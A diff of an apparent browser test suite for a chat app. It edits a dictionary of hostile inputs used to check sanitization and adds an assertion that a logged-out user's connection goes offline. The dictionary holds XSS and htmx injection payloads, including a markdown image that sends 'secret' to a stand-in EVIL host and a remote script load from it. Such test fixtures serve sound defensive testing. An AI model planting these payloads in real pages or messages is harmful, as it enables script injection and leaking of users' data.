@@ -18,7 +18,7 @@ HOSTILE = {
     "remote image": f"![secret]({EVIL}/?q=secret) <img src='{EVIL}/pixel.png'>",
     "script": f"<script>window.harmed=1</script><script src='{EVIL}/x.js'></script>",
     "link": "[press me](javascript:harmed=1) <a href='javascript:harmed=1'>me too</a> <javascript:harmed=1>",
-    "svg": "<svg onload=window.harmed=1><animate onbegin=window.harmed=1 attributeName=x dur=1s></svg>",
+    "svg": "<svg onload='harmed=1'><animate onbegin='harmed=1' attributeName=x dur=1s /></svg>",
     "frame": "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe><object data='/logout/'></object>",
     "htmx request": '<div hx-get="/logout/" hx-trigger="load" data-hx-get="/logout/">x</div><b hx-on:load="harmed=1">',
     "htmx swap": '<div id="composer" hx-swap-oob="true">gone</div><hx-partial hx-target="#thread">gone</hx-partial>',
@@ -173,6 +173,7 @@ async def test_case_82_who_has_logged_out_sees_nothing_more(
     await log_out(page)
     assert await _first(f"{server.url.replace('http', 'ws')}/ws/threads/{thread}/", before, server.url) == 4401
     allowed_problems.append("status of 40[34]")
+    await expect(other.main).to_have_attribute("data-connection", "offline")  # it hears nothing more either
     await other.composer.fill("b")
     await other.composer.press("Enter")
     await expect(other.page.get_by_text("The server could not do this.")).to_be_visible()
